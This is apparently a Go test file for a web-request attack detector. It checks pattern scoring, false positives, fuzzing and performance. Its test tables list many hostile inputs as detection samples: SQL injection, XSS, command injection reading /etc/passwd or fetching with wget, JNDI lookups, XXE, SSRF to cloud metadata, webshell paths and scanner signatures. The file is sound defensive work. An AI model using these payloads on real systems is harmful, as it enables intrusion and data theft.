package feature

import (
	"slices"
	"strings"
	"testing"
)

// strengthOf returns what one decoded value shows of a class.
func strengthOf(m *Markers, text string, o Origin, c Class) float32 {
	var sums markerSums
	m.scan(&sums, []byte(strings.ToLower(text)), o)
	return sums.feature(c)
}

func TestMarkersFindAttacks(t *testing.T) {
	m := NewMarkers()
	tests := []struct {
		class  Class
		origin Origin
		texts  []string
	}{
		{ClassSQLI, FromQuery, []string{
			"1' or '1'='1", "1 or 1=1", "x' or 17=17--", `admin"--`, "1 union select a,b from c", "1/**/union/**/all/**/select 1", "1 /*!50000union*/ select 2",
			"1;drop table users", "1' and sleep(5)#", "1 and (select 1 from dual)", "1' waitfor delay '0:0:5'--", "1) or (7=7", "' or x=x", "1 or 2 --", "1' || 'a'='a",
			"-1 union\nselect null,null", "1 and ascii(substring((select 1),1,1))>64", "a' having 1=1--", "1%' and 'a' like 'a", "1 #c\nunion #c\nselect 3", `{"$ne":1}`,
		}},
		{ClassXSS, FromQuery, []string{
			"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", `" onmouseover="alert(1)`, "javascript:alert(1)", "<svg/onload=alert(1)>", "'><b>", "<a href=javascript:x>", `"autofocus onfocus=x`, "<details open ontoggle=a>",
		}},
		{ClassTraversal, FromQuery, []string{"../../../x", `..\..\x`, "/etc/passwd", "....//....//x", `c:\windows\win.ini`, "../../x", "/var/log/x", "..0x2f..0x2f"}},
		{ClassTraversal, FromPath, []string{"/a/../b", "/..;/manager", "/static/../../x"}},
		{ClassCommand, FromQuery, []string{
			"1;cat /etc/passwd", "x|id", "x && whoami", "`id`", "$(uname -a)", "; /bin/sleep 5", "a;c'a't /x", "x||ping -c 1 y", "|/usr/bin/id", "x\nwget http://y", "cat /etc/hosts", "powershell -enc aaa", ";netstat -an", "1&dir c:",
		}},
		{ClassCode, FromQuery, []string{"{{7*7}}", "${7*7}", "<?php system($_get[0])", "%{(#a=1)}", "t(java.lang.runtime).getruntime()", `o:8:"stdclass":0:{}`, "ro0abxn", "#{1+1}", "{{config.items()}}", "__import__('os')"}},
		{ClassInclusion, FromQuery, []string{"php://input", "http://203.0.113.9/x.txt?", "expect://id", "file:///x", "https://example.com/shell.txt"}},
		{ClassLookup, FromAgent, []string{"${jndi:ldap://x}", "${${lower:j}ndi", "${${::-j}${::-n}", "${env:a:-j}"}},
		{ClassXXE, FromBody, []string{`<!doctype a [<!entity b system "file:///c">]>`}},
		{ClassSSRF, FromQuery, []string{"http://169.254.169.254/latest/meta-data", "gopher://127.0.0.1:6379/_", "http://[::1]/", "http://metadata.google.internal/"}},
		{ClassCRLF, FromQuery, []string{"x\r\nset-cookie: a=b", "x\n\nhttp/1.1 200 ok"}},
		{ClassWebshell, FromPath, []string{"/uploads/c99.php", "/wso.php"}},
		{ClassScanner, FromAgent, []string{"sqlmap/1.7", "mozilla/5.0 (compatible; nmap scripting engine)", "nuclei - open-source", "masscan/1.3"}},
		{ClassProbe, FromPath, []string{"/.env", "/.git/config", "/phpmyadmin/", "/boaform/admin", "/actuator/env", "/vendor/phpunit/x", "/a.bak", "/cgi-bin/luci"}},
	}
	for _, tt := range tests {
		for _, text := range tt.texts {
			if got := strengthOf(m, text, tt.origin, tt.class); got < 0.28 { // one medium marker
				t.Errorf("%s: %q from a %s shows only %.2f", tt.class, text, tt.origin, got)
			}
		}
	}
}

func TestMarkersLeaveTextAlone(t *testing.T) {
	m := NewMarkers()
	for _, text := range []string{
		"red shoes or blue shoes", "O'Reilly & Sons", "rock 'n' roll", "select a size", "please select your country from the list", "5 > 3 is fine",
		"union station", "drop me a line; update me soon", "cats and dogs", "a--b", "c#", "it's 5 o'clock", "john's or mary's", "50% off", "R&D", "AT&T", "{name}", "price: $5",
		"Mr. and Mrs. Smith", "https://www.example.com/path?x=1", "hello, world; how are you", "tom & jerry", "a=b&c=d", "id;name;date", "2 | 3", "one\ntwo\nthree",
		"the table where we sat", "order by phone", "on time = good", "one + one", "1/2/2024", "wait...", "...", "(555) 123-4567", "Node.js", "C:", "a.b.c", "user@example.com",
		"say \"hi\" and go", "group by age", "if (a)", "data:", "x <- y", "< 5", "5<6", "->", "=>", "Smith, John; Doe, Jane", "e1f0a9d1-0b1c-4f0e-9f5e-1c2d3e4f5a6b", "eyJhbGciOiJIUzI1NiJ9.e30.x-y_z",
	} {
		var sums markerSums
		m.scan(&sums, []byte(strings.ToLower(text)), FromQuery)
		for c := range NumClasses {
			if got := sums.feature(c); got > 0.34 { // more than one medium marker
				t.Errorf("%q shows %.2f of %s: %v", text, got, c, m.Matches(nil, []byte(strings.ToLower(text)), FromQuery))
			}
		}
	}
}

// Content management systems keep pictures and style sheets where intruders
// like to put scripts: only a script is a sign there.
func TestMarkersKnowScripts(t *testing.T) {
	m := NewMarkers()
	for _, c := range []struct {
		path   string
		script bool
	}{
		{"/wp-content/uploads/2024/05/x.php", true},
		{"/wp-content/uploads/2024/05/x.php5?a=b", true},
		{"/uploads/tmp/cmd.jsp", true},
		{"/wp-content/uploads/2024/05/logo.svg", false},
		{"/uploads/photo.php.example/a", true}, // the name of a folder: looks are all that a path has
		{"/wp-includes/css/dist/block-library/style.min.css", false},
		{"/uploads/", false},
	} {
		if got := strengthOf(m, c.path, FromPath, ClassWebshell); (got > 0) != c.script {
			t.Errorf("%s shows %.2f of a web shell, want it to be one: %v", c.path, got, c.script)
		}
	}
}

// A marker counts once a value, however often it stands there; two values do
// not add up.
func TestMarkersSaturate(t *testing.T) {
	m := NewMarkers()
	one, many := strengthOf(m, "/etc/passwd", FromQuery, ClassTraversal), strengthOf(m, strings.Repeat("/etc/passwd ", 50), FromQuery, ClassTraversal)
	if one != many {
		t.Errorf("once %v, fifty times %v", one, many)
	}
	var sums markerSums
	m.scan(&sums, []byte("/etc/passwd"), FromQuery)
	m.scan(&sums, []byte("/etc/shadow"), FromQuery)
	if sums.feature(ClassTraversal) != one {
		t.Errorf("two values show %v, one %v", sums.feature(ClassTraversal), one)
	}
}

func TestMarkersMatches(t *testing.T) {
	m := NewMarkers()
	text := []byte("x' or '1'='1 /etc/passwd")
	var sqli, traversal bool
	for _, match := range m.Matches(nil, text, FromQuery) {
		if match.From < 0 || match.To > len(text) || match.From >= match.To || match.Name == "" || match.Strength == 0 {
			t.Errorf("%+v", match)
		}
		sqli = sqli || match.Class == ClassSQLI && match.Name == "quote breakout" && match.From == 1
		traversal = traversal || match.Class == ClassTraversal && string(text[match.From:match.To]) == "/etc/passwd"
	}
	if !sqli || !traversal {
		t.Errorf("%+v", m.Matches(nil, text, FromQuery))
	}
}

// The automaton finds what a search for each pattern finds: every place, and
// words only where they begin.
func TestMarkersAgreeWithSearch(t *testing.T) {
	groups := []group{
		{ClassSQLI, weak, anywhere, always, []string{"he", "she", "his", "hers", "a'b", "'", "b--", "--", "a<b", "zu"}},
		{ClassXSS, weak, anywhere, asPrefix, []string{"or", "order", "he", "_x"}},
	}
	m := newMarkers(groups)
	for _, text := range []string{"ushers", "she or order", "shoulder", "a'b--", "his_x", "or", "", "'or'he", "_x or_x", "\xffor", "xor or  order\torder", "a>b", "a<b a]b", "qu zu"} {
		var want []string
		for i := range text {
			for _, p := range m.markers {
				from := i + 1 - len(p.text)
				if from >= 0 && text[from:i+1] == p.text && (p.check == always || wordStarts([]byte(text), from)) {
					want = append(want, p.class.String()+p.text)
				}
			}
		}
		slices.Sort(want)
		want = slices.Compact(want)
		var got []string
		for _, match := range m.Matches(nil, []byte(text), FromQuery) {
			got = append(got, match.Class.String()+match.Name)
		}
		slices.Sort(got)
		if !slices.Equal(got, want) {
			t.Errorf("%q: found %v, want %v", text, got, want)
		}
	}
}

func TestPatternsAreLowerCase(t *testing.T) {
	for _, g := range patterns {
		for _, w := range g.words {
			if w == "" || strings.ContainsAny(w, "ABCDEFGHIJKLMNOPQRSTUVWXYZ") || g.where == 0 {
				t.Errorf("%s: pattern %q can never match", g.class, w)
			}
		}
	}
}

func FuzzMarkers(f *testing.F) {
	for _, s := range []string{"' or '1'='1", "<a onx=1>", "${{{7*7}}}", ";;;|||cat", "../..\\....//", "/*!/**/union#\nselect", "`$($((", "or or or or", "''''''))))--", "\n\r set-cookie:"} {
		f.Add(s, uint8(FromQuery))
	}
	m := NewMarkers()
	f.Fuzz(func(t *testing.T, text string, origin uint8) {
		o := Origin(origin) % NumOrigins
		var sums, v markerSums
		any := m.scan(&sums, []byte(text), o)
		for _, match := range m.Matches(nil, []byte(text), o) {
			if match.From < 0 || match.To > len(text) || match.From >= match.To {
				t.Fatalf("%q: %+v", text, match)
			}
			v[match.Class] += uint16(match.Strength)
		}
		if v != sums || any != (v != markerSums{}) {
			t.Fatalf("%q: scan says %v, matches say %v", text, sums, v)
		}
	})
}

func BenchmarkMarkers(b *testing.B) {
	m := NewMarkers()
	for _, bb := range []struct{ name, text string }{
		{"words", strings.Repeat("lorem ipsum dolor sit amet ", 40)},
		{"attack", strings.Repeat("1' or '1'='1 ", 80)},
		{"hostile", strings.Repeat("or(", 340)},
	} {
		b.Run(bb.name, func(b *testing.B) {
			text := []byte(bb.text)
			var sums markerSums
			b.SetBytes(int64(len(text)))
			for b.Loop() {
				m.scan(&sums, text, FromQuery)
			}
		})
	}
}
